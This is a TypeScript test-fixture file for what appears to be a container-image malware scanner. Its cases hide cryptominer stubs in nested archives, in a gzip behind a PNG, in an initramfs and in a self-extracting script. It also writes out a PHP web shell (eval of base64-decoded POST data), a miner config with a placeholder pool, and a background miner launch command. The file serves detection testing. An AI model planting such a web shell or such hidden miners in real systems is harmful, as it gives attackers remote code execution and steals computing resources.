import { gzipSync, zstdCompressSync } from 'node:zlib';
import { moneroAddress } from '../../testkit/addresses.ts';
import { cpio, deb, piped } from '../../testkit/packed.ts';
import { tar } from '../../testkit/tar.ts';
import { zip } from '../../testkit/zip.ts';
import { type ImageCase, image, MINER_STRINGS, program, starts } from './image-case.ts';

const NGINX = { Cmd: ['nginx', '-g', 'daemon off;'] };
const MINER = program(MINER_STRINGS);
const XMR = moneroAddress('in an archive');
const POOL = 'mx-eu.backend.example:10128';
const CONFIG = JSON.stringify({
  pools: [{ algo: 'rx/0', url: POOL, user: XMR, tls: true }],
  'donate-level': 0,
});
const SHELL = '<?php eval(base64_decode($_POST["x"])); ?>\n';
const RUN = `#!/bin/sh\nnohup ./d -o ${POOL} -u ${XMR} -p x --tls -k &\n`;
const tarOf = (files: Readonly<Record<string, string | Buffer>>): Buffer =>
  tar(Object.entries(files).map(([path, data]) => ({ path, data, mode: 0o755 })));
const zipOf = (files: Readonly<Record<string, string | Buffer>>): Buffer =>
  zip(Object.entries(files).map(([name, data]) => ({ name, data })));

const miner = (name: string, files: Parameters<typeof image>[0]): ImageCase => ({
  name: `a miner in ${name}`,
  spec: image(files, NGINX),
  rule: 'miner/program',
  severity: 'medium',
});

/** What lies in archives, some in others. */
export const NESTED: readonly ImageCase[] = [
  miner('a jar in a tar.xz in a deb', {
    'var/cache/x.deb': deb({
      'opt/a.tar.xz': piped('xz', tarOf({ 'lib/a.jar': zipOf({ 'native/libx.so': MINER }) })),
    }),
  }),
  miner('a tar.gz', { 'opt/data.tar.gz': gzipSync(tarOf({ d: MINER })) }),
  miner('a gz called .log', { 'var/log/app.log': gzipSync(MINER) }),
  miner('a zip', { 'srv/assets.zip': zipOf({ 'a/b': MINER }) }),
  miner('a bz2', { 'opt/x.bz2': piped('bzip2', MINER) }),
  miner('a zst', { 'opt/x.zst': zstdCompressSync(MINER) }),
  miner('an initramfs', { 'boot/initrd': gzipSync(cpio({ 'bin/d': MINER })) }),
  miner('a gzip behind a picture', {
    'srv/logo.png': Buffer.concat([
      Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\0IEND\xaeB\x60\x82', 'latin1'),
      gzipSync(MINER),
    ]),
  }),
  {
    name: 'a miner that the start chain unpacks',
    spec: starts('tar -xzf /opt/data.tgz -C /tmp && exec /tmp/d', {
      'opt/data.tgz': gzipSync(tarOf({ d: MINER })),
    }),
    rule: 'miner/program',
    severity: 'high',
  },
  {
    name: 'a miner in a script that unpacks itself',
    spec: image(
      {
        'opt/install.run': Buffer.concat([
          Buffer.from('#!/bin/sh\ntail -n +3 "$0" | tar xz -C /tmp\n'),
          gzipSync(tarOf({ d: MINER })),
        ]),
      },
      NGINX,
    ),
    rule: 'miner/program',
  },
  {
    name: 'settings in a jar',
    spec: image({ 'app/a.jar': zipOf({ 'conf/config.json': CONFIG }) }, NGINX),
    rule: 'miner/proof',
    severity: 'high',
  },
  {
    name: 'a command in a tgz',
    spec: image({ 'opt/a.tgz': gzipSync(tarOf({ 'run.sh': RUN })) }, NGINX),
    rule: 'miner/proof',
    severity: 'high',
  },
  {
    name: 'a web shell in a zip',
    spec: image({ 'srv/theme.zip': zipOf({ 'inc/x.php': SHELL }) }, NGINX),
    rule: 'web-shell/shell',
  },
];

/** Archives that nobody has to look at. */
export const NESTED_TWINS: readonly ImageCase[] = [
  {
    name: 'caches of packages',
    spec: image(
      {
        'var/cache/apt/archives/x.deb': deb({
          'usr/bin/tool': program(['a tool']),
          'etc/init.d/tool': '#!/bin/sh\n/usr/bin/tool &\n',
          'etc/cron.daily/tool': '#!/bin/sh\n/usr/bin/tool --clean\n',
        }),
        'root/.cache/pip/a.whl': zipOf({ 'a/__init__.py': 'import os\n', 'a-1.dist-info/RECORD': 'a\n' }),
        'opt/app/lib/a.jar': zipOf({
          'META-INF/MANIFEST.MF': 'Main-Class: a.B\n',
          'a/B.class': Buffer.from('cafebabe00', 'hex'),
        }),
        'usr/share/man/man1/tool.1.gz': gzipSync('.TH TOOL 1\n'),
      },
      NGINX,
    ),
  },
  {
    name: 'damaged archives of a test suite, and one of a format that is not read',
    spec: image(
      {
        'usr/lib/go/src/archive/zip/testdata/bad.zip': zipOf({ a: 'x'.repeat(200) }).subarray(0, 90),
        'usr/share/x/data.7z': Buffer.concat([Buffer.from("7z\xbc\xaf'\x1c", 'latin1'), Buffer.alloc(100)]),
      },
      NGINX,
    ),
  },
  {
    name: 'a jar that starts',
    spec: starts('exec java -jar /app/a.jar', {
      'app/a.jar': zipOf({
        'application.properties': 'server.port=8080\n',
        'run.sh': '#!/bin/sh\nexec java -jar a.jar\n',
      }),
    }),
  },
];
